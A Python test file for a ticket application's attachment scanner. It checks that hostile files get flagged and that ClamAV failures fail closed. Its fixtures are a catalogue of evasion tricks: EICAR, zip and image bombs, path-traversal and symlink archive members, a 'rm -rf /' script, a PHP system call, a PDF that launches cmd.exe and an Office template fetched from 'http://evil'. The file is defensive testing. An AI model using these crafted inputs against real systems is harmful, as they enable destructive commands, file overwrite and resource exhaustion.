"""What the scanners find, and that hostile files neither crash nor exhaust them."""

from __future__ import annotations

import io
import socket
import struct
import threading
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pikepdf
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.core import samples
from tests.core.samples import EICAR, ELF, PE, gif, jpeg, ole, pdf, pdf_stream, png, webp, zipped
from ticket_app.core.attachments.file_types import BY_EXTENSION, PNG, TEXT
from ticket_app.core.attachments.scanning import limits
from ticket_app.core.attachments.scanning.clamav import ClamAV
from ticket_app.core.attachments.scanning.scanner import BuiltIn, InTurn, scanner_from
from ticket_app.core.attachments.scanning.signatures import OLE, SHORTCUT
from ticket_app.core.attachments.scanning.verdicts import Verdict


@pytest.fixture
def scan(tmp_path: Path) -> Callable[[str, bytes], Verdict]:
    def scan_bytes(name: str, content: bytes) -> Verdict:
        path = tmp_path / "file"
        path.write_bytes(content)
        return BuiltIn().scan(path, BY_EXTENSION[name.rpartition(".")[2].lower()])

    return scan_bytes


Scan = Callable[[str, bytes], Verdict]


@pytest.mark.parametrize("name", samples.HONEST)
def test_harmless_files_are_clean(name: str, scan: Scan) -> None:
    assert scan(name, samples.HONEST[name]) == Verdict("clean")


def altered(members: dict[str, bytes], change: Callable[[zipfile.ZipInfo], None]) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as out:
        for name, content in members.items():
            info = zipfile.ZipInfo(name)
            change(info)
            out.writestr(info, content)
    return archive.getvalue()


def link(info: zipfile.ZipInfo) -> None:
    info.create_system, info.external_attr = 3, 0o120777 << 16


def misplaced() -> bytes:
    """Two members in the directory, one place in the file."""
    archive = zipped({"a.txt": b"x" * 100, "b.txt": b"x" * 100}, zipfile.ZIP_STORED)
    at = archive.rindex(b"PK\x01\x02")
    return archive[: at + 42] + bytes(4) + archive[at + 46 :]


def overlapping() -> bytes:
    """A member that lies within the packed bytes of another."""
    inner = zipped({"b.txt": b"x" * 100}, zipfile.ZIP_STORED)
    start = inner.index(b"PK\x01\x02")
    outer = bytearray(zipped({"a.txt": b"." + inner[:start]}, zipfile.ZIP_STORED))
    entry = bytearray(inner[start : inner.index(b"PK\x05\x06")])
    struct.pack_into("<L", entry, 42, outer.index(b"PK", 4))
    end = outer.index(b"PK\x05\x06")
    size = struct.unpack_from("<L", outer, end + 12)[0] + len(entry)
    struct.pack_into("<2HL", outer, end + 8, 2, 2, size)
    return bytes(outer[:end] + entry + outer[end:])


def contradicting() -> bytes:
    """The directory says that the member is deflated, its own header that it is stored."""
    archive = bytearray(zipped({"a.txt": b"x" * 100}))
    struct.pack_into("<H", archive, 8, 0)
    return bytes(archive)


def hidden_behind() -> bytes:
    """Something behind the end of what a member unpacks to."""
    packed = zlib.compress(b"x" * 100)[2:-4]
    return assembled(packed + b"PK\x03\x04 a hidden member", b"")


def hidden_between() -> bytes:
    return assembled(zlib.compress(b"x" * 100)[2:-4], b"PK\x03\x04 another hidden member")


def assembled(packed: bytes, gap: bytes) -> bytes:
    """An archive of one member, with something between it and the directory."""
    sizes = struct.pack("<3L", zlib.crc32(b"x" * 100), len(packed), 100)
    facts = struct.pack("<5H", 20, 0, 8, 0, 0) + sizes + struct.pack("<2H", 5, 0)
    start = b"PK\x03\x04" + facts + b"a.txt" + packed + gap
    entry = b"PK\x01\x02" + bytes(2) + facts + bytes(14) + b"a.txt"
    return start + entry + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, len(entry), len(start), 0)


def shrunk(content: bytes, declared: int) -> bytes:
    """An archive whose headers say that its member is of another size."""
    archive = bytearray(zipped({"a.txt": content}))
    struct.pack_into("<L", archive, 22, declared)
    struct.pack_into("<L", archive, archive.index(b"PK\x01\x02") + 24, declared)
    return bytes(archive)


def nested(depth: int, content: bytes) -> bytes:
    for _ in range(depth):
        content = zipped({"inner.zip": content})
    return content


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def saved_pdf(*, compressed: bool = False, locked: bool = False) -> bytes:
    """A PDF as qpdf writes it: with JavaScript, or locked."""
    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(b"<< >>" if locked else JS))) as document:
        document.Root.OpenAction = document.get_object(4, 0)
        document.save(
            written,
            object_stream_mode=pikepdf.ObjectStreamMode.generate
            if compressed
            else pikepdf.ObjectStreamMode.disable,
            encryption=pikepdf.Encryption(user="secret", owner="secret") if locked else False,
        )
    return written.getvalue()


def newer(archive: bytes) -> bytes:
    """An archive that says that only a newer unpacker can read it."""
    content = bytearray(archive)
    content[content.index(b"PK\x01\x02") + 6] = 99
    return bytes(content)


def endless_ole() -> bytes:
    """An Office file of 2 KB whose allocation table, read as it says, would fill any memory."""
    content = bytearray(ole("x"))
    struct.pack_into("<L", content, 44, 109 + 127 * 1_000_000)
    struct.pack_into("<2L", content, 68, 2, 1_000_000)
    return bytes(content) + struct.pack("<128L", *[0] * 127, 2)


MSI = bytes.fromhex("84100c0000000000c000000000000046")
ARCHIVE = zipped({"a.txt": b"hello"})
STORED = zipped({"a.txt": b"hello"}, zipfile.ZIP_STORED)
THREATS: dict[str, tuple[str, bytes]] = {
    "EICAR": ("a.txt", EICAR),
    "EICAR in other text": ("a.log", b"before " + EICAR + b" after"),
    "EICAR behind a picture": ("a.png", png() + EICAR),
    "EICAR in an archive": ("a.zip", zipped({"a.txt": EICAR})),
    "EICAR in an archive in an archive": ("a.zip", nested(2, zipped({"a.txt": EICAR}))),
    "EICAR across chunks": ("a.zip", zipped({"a": b"." * (limits.CHUNK_BYTES - 9) + EICAR})),
    "EICAR deep in a large member": (
        "a.zip",
        zipped({"a": b"".join(b"%d" % n for n in range(2_700_000)) + EICAR}),
    ),
    "Windows program": ("a.txt", PE),
    "Linux program": ("a.png", ELF),
    "Windows program in an archive": ("a.zip", zipped({"invoice.pdf": PE})),
    "Linux program in an archive": ("a.zip", zipped({"bin/x": ELF})),
    "Java class in an archive": ("a.zip", zipped({"X.class": b"\xca\xfe\xba\xbe" + bytes(20)})),
    "WebAssembly in an archive": ("a.zip", zipped({"x": b"\0asm\1\0\0\0"})),
    "shortcut in an archive": ("a.zip", zipped({"x.png": SHORTCUT})),
    "script host file in an archive": ("a.zip", zipped({"x.hta": b"<p>"})),
    "installer in an archive": ("a.zip", zipped({"x": ole(class_id=MSI)})),
    "script as text": ("a.txt", b"#!/bin/sh\nrm -rf /\n"),
    "script as text in an archive": ("a.zip", zipped({"a.txt": b"#!/usr/bin/env python\n"})),
    "page as text": ("a.txt", b"  <!DOCTYPE html><p>"),
    "page as text in UTF-16": ("a.txt", "<script >1</script>".encode("utf-16")),
    "drawing as text": ("a.csv", b'<?xml version="1.0"?>\n<svg onload="x">'),
    "deep nesting": ("a.zip", nested(6, ARCHIVE)),
    "zip bomb": ("a.zip", zipped({"a.txt": bytes(20_000_000)})),
    "overlapping members": ("a.zip", overlapping()),
    "members in one place": ("a.zip", misplaced()),
    "member larger than it says": ("a.zip", shrunk(b"x" * 5000, 10)),
    "member smaller than it says": ("a.zip", shrunk(b"x" * 5000, 6000)),
    "too many members": ("a.zip", zipped({str(n): b"" for n in range(2001)})),
    "traversal": ("a.zip", zipped({"../../etc/cron.d/x": b"x"})),
    "traversal by backslash": ("a.zip", zipped({"..\\x.txt": b"x"})),
    "absolute path": ("a.zip", zipped({"/etc/x": b"x"})),
    "drive letter": ("a.zip", zipped({"C:/x": b"x"})),
    "symbolic link": ("a.zip", altered({"x": b"/etc/passwd"}, link)),
    "name that reads backwards": ("a.zip", zipped({"invoice\u202efdp.txt": b"x"})),
    "something in front of an archive": ("a.zip", b"PK\x03\x04" + ARCHIVE),
    "something behind an archive": ("a.zip", ARCHIVE + b"hidden"),
    "Office macros": ("a.zip", zipped({"x.docm": zipped({"word/vbaProject.bin": b"x"})})),
    "old Office macros": (
        "a.zip",
        zipped({"x.doc": ole("WordDocument", "_VBA_PROJECT")}),
    ),
    "damaged Office file": ("a.zip", zipped({"x.doc": OLE + "_VBA_PROJECT".encode("utf-16-le")})),
    "program packed into an Office file": ("a.zip", zipped({"x.doc": ole("\x01Ole10Native")})),
    "Office file that claims a table larger than itself": (
        "a.zip",
        zipped({"x.doc": endless_ole()}),
    ),
    "Office template from elsewhere": (
        "a.zip",
        zipped(
            {
                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                b'Target="http://evil/t.dotm" TargetMode="External"/>'
            }
        ),
    ),
    "PDF with JavaScript": ("a.pdf", pdf(JS)),
    "PDF with an escaped name": ("a.pdf", pdf(b"<< /S /J#61vaScr#69pt >>")),
    "PDF with a script key": ("a.pdf", pdf(b"<< /S /Rendition /#4aS 5 0 R >>", b"(app.alert)")),
    "PDF that starts a program": ("a.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "PDF with files in it": ("a.pdf", pdf(b"<< /Type /EmbeddedFile >>")),
    "PDF with media": ("a.pdf", pdf(b"<< /Subtype /RichMedia >>")),
    "PDF with packed JavaScript": (
        "a.pdf",
        pdf(pdf_stream(b"3 0 " + JS, b"/Type /ObjStm /N 1 /First 4")),
    ),
    "contradiction": ("a.zip", contradicting()),
    "member behind a member": ("a.zip", hidden_behind()),
    "hidden between members": ("a.zip", hidden_between()),
    "PDF with JavaScript in an object stream in use": ("a.pdf", saved_pdf(compressed=True)),
    "PDF with packed JavaScript that hides its kind": (
        "a.pdf",
        pdf(pdf_stream(b"3 0 " + JS, b"/Type 9 0 R /N 1 /First 4")),
    ),
    "PDF with objects packed oddly": (
        "a.pdf",
        pdf(b"<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n00\nendstream"),
    ),
    "PDF made to be slow": ("a.pdf", pdf(b"#41" * 100_000)),
    "PDF bomb": ("a.pdf", pdf(pdf_stream(b"3 0 " + bytes(17_000_000), b"/Type /ObjStm"))),
    "active PDF in an archive": ("a.zip", zipped({"x.pdf": pdf(JS)})),
    "PDF and archive": ("a.pdf", pdf(b"<< >>") + ARCHIVE),
    "picture and archive": ("a.gif", gif() + ARCHIVE),
    "picture and archive of a newer kind": ("a.gif", gif() + newer(ARCHIVE)),
    "picture and archive with an end": ("a.png", png() + ARCHIVE + b"\0\0"),
    "picture and RAR": ("a.jpg", jpeg() + b"Rar!\x1a\x07\x01\x00"),
    "picture and program": ("a.jpg", jpeg() + PE),
    "picture and PDF": ("a.gif", gif() + b"%PDF-1.4"),
    "picture with a page in it": ("a.png", png(extra=b"Comment\0<html><p>")),
    "picture with a script behind it": ("a.gif", gif() + b" " * 9000 + b"<ScRiPt>alert(1)"),
    "picture with PHP": ("a.jpg", jpeg() + b"<?php system(1);"),
    "PNG bomb": ("a.png", png(30_000, 30_000)),
    "JPEG bomb": ("a.jpg", jpeg(60_000, 60_000)),
    "GIF bomb": ("a.gif", gif(65_535, 65_535)),
    "WebP bomb": ("a.webp", webp(16_000, 16_000)),
    "GIF of too many frames": ("a.gif", gif(frames=5_001)),
}


@pytest.mark.parametrize("threat", THREATS)
def test_threats_are_found(threat: str, scan: Scan) -> None:
    verdict = scan(*THREATS[threat])
    assert verdict.status == "infected", verdict
    assert verdict.reason.endswith(".")


def locked(archive: bytes) -> bytes:
    content = bytearray(archive)
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("a.zip", locked(ARCHIVE), "password"),
        ("a.zip", zipped({"a": b"x" * 99}, zipfile.ZIP_LZMA), "cannot be checked"),
        ("a.zip", STORED.replace(b"hello", b"hullo"), "damaged"),
        ("a.zip", b"PK\x03\x04", "damaged"),
        ("a.zip", newer(ARCHIVE), "cannot be checked"),
        ("a.pdf", saved_pdf(locked=True), "password"),
    ],
    ids=["locked", "lzma", "changed", "cut off", "newer", "encrypted"],
)
def test_a_file_that_cannot_be_checked_is_not_clean(
    name: str, content: bytes, reason: str, scan: Scan
) -> None:
    verdict = scan(name, content)
    assert verdict.status == "failed"
    assert reason in verdict.reason
    assert not verdict.retry


def test_a_bomb_is_not_unpacked_beyond_its_budget(
    scan: Scan, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "MAX_RATIO", 1_000_000)
    members = {f"{n}.txt": bytes(15_000_000) for n in range(20)}
    assert "bomb" in scan("a.zip", zipped(members)).reason


@pytest.mark.parametrize(
    "content",
    [pdf(b"[" * 200_000), pdf(b"[" + b"0 " * 5_000_000 + b"]")],
    ids=["nesting", "memory"],
)
def test_a_pdf_that_takes_too_much_to_read_is_not_clean(
    content: bytes, scan: Scan, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "MAX_PDF_MEMORY_BYTES", 200 * 1024 * 1024)
    verdict = scan("a.pdf", content)
    assert verdict.status == "failed"
    assert "too complex" in verdict.reason or "too much memory" in verdict.reason


def test_a_pdf_that_takes_too_long_to_read_is_not_clean(
    scan: Scan, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "MAX_SECONDS", 1.0)
    slow = b"".join(b"%d 0 obj\n<</Length 9999>>\nstream\n" % n for n in range(1, 100_000))
    verdict = scan("a.pdf", b"%PDF-1.7\n" + slow + pdf()[9:].replace(b"startxref", b"startxxxx"))
    assert verdict == Verdict("failed", "It takes too long to check.")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.png", png()[:33] + png(extra=b"x")[33:46] * 1_000 + png()[33:]),
        ("a.jpg", b"\xff\xd8" + b"\xff\xec\0\x02" * 1_000 + jpeg()[2:]),
        ("a.gif", gif(frames=1_000)),
    ],
)
def test_a_picture_of_too_many_parts_is_refused(
    name: str, content: bytes, scan: Scan, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert scan(name, content).status == "clean"
    monkeypatch.setattr(limits, "MAX_IMAGE_READS", 900)
    assert "more parts" in scan(name, content).reason


SHORT = {
    "a.png": png()[:20],
    "a.jpg": jpeg()[:12],
    "a.gif": gif()[:9],
    "a.webp": webp()[:24],
}


def test_a_picture_that_no_one_can_read_is_not_clean(scan: Scan) -> None:
    for name in ("a.png", "a.jpg", "a.gif", "a.webp"):
        assert scan(name, SHORT[name]).status == "failed"


def test_an_office_file_that_mentions_macros_is_clean(scan: Scan) -> None:
    text = "Macros VBA _VBA_PROJECT".encode("utf-16-le")
    assert scan("a.zip", zipped({"x.doc": ole("WordDocument") + text})) == Verdict("clean")


def test_a_scan_that_runs_out_of_time_fails(scan: Scan, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_SECONDS", -1.0)
    assert scan("a.txt", b"x") == Verdict("failed", "It takes too long to check.")


def test_a_missing_file_may_be_scanned_again(tmp_path: Path) -> None:
    verdict = BuiltIn().scan(tmp_path / "gone", TEXT)
    assert (verdict.status, verdict.retry) == ("failed", True)


def test_text_that_mentions_threats_is_clean(scan: Scan) -> None:
    words = b"The page has <script> in it; MZ; %PDF-; This program cannot be run in DOS mode"
    assert scan("a.log", words) == Verdict("clean")
    assert scan("a.md", b"<div>\n\n# Title\n</div>") == Verdict("clean")


STARTS = [b"", b"PK\x03\x04", b"PK\x05\x06", b"%PDF-1.7\n", *samples.HONEST.values()]


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(
    start=st.sampled_from(STARTS),
    noise=st.binary(max_size=400),
    ending=st.sampled_from(sorted(BY_EXTENSION)),
    data=st.data(),
)
def test_no_bytes_crash_the_scanner(
    start: bytes, noise: bytes, ending: str, data: st.DataObject, scan: Scan
) -> None:
    at = data.draw(st.integers(0, len(start)))
    cut = data.draw(st.integers(0, len(noise)))
    verdict = scan(f"x.{ending}", start[:at] + noise + start[at + cut :])
    assert verdict.status in ("clean", "infected", "failed")


# ClamAV


@contextmanager
def clamd(answer: bytes, folder: Path, *, deaf: bool = False) -> Iterator[tuple[str, bytearray]]:
    """A daemon that speaks INSTREAM for one file; gives its address and what it received."""
    received = bytearray()
    address = folder / "clamd.ctl"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(address))
    server.listen()
    done = threading.Event()

    def serve() -> None:
        caller, _ = server.accept()
        with caller, caller.makefile("rb") as stream:
            if deaf:
                done.wait(10)
                return
            assert stream.read(10) == b"zINSTREAM\0"
            while length := struct.unpack(">L", stream.read(4))[0]:
                received.extend(stream.read(length))
            caller.sendall(answer)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield f"unix://{address}", received
    done.set()
    thread.join(10)
    server.close()


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        (b"stream: OK\0", Verdict("clean")),
        (
            b"stream: Win.Test.EICAR_HDB-1 FOUND\0",
            Verdict("infected", "ClamAV found Win.Test.EICAR_HDB-1."),
        ),
        (
            b"INSTREAM size limit exceeded. ERROR\0",
            Verdict("failed", "The virus scanner could not check it.", retry=True),
        ),
        (b"", Verdict("failed", "The virus scanner could not check it.", retry=True)),
    ],
)
def test_clamav_receives_the_file_over_its_socket(
    answer: bytes, expected: Verdict, tmp_path: Path
) -> None:
    content = bytes(range(256)) * 2000
    path = tmp_path / "file"
    path.write_bytes(content)
    with clamd(answer, tmp_path) as (address, received):
        assert ClamAV(address).scan(path, PNG) == expected
    assert received == content


def test_clamav_by_tcp_that_is_away_fails_closed(tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_bytes(b"x")
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
    away = Verdict("failed", "The virus scanner cannot be reached.", retry=True)
    assert ClamAV(f"tcp://127.0.0.1:{port}").scan(path, PNG) == away
    assert ClamAV(f"unix://{tmp_path}/nobody").scan(path, PNG) == away


def test_clamav_that_does_not_answer_fails_closed(tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_bytes(b"x")
    with clamd(b"", tmp_path, deaf=True) as (address, _):
        verdict = ClamAV(address, seconds=0.1).scan(path, PNG)
    assert (verdict.status, verdict.retry) == ("failed", True)


def test_the_settings_choose_the_scanner() -> None:
    assert isinstance(scanner_from(None), BuiltIn)
    assert isinstance(scanner_from("unix:///run/clamd.ctl"), InTurn)
    for wrong in ("http://x", "tcp://host", "unix://"):
        with pytest.raises(ValueError, match="address of ClamAV"):
            scanner_from(wrong)


def test_the_built_in_scanner_runs_first(tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_bytes(EICAR)
    verdict = scanner_from(f"unix://{tmp_path}/nobody").scan(path, TEXT)
    assert verdict.status == "infected"
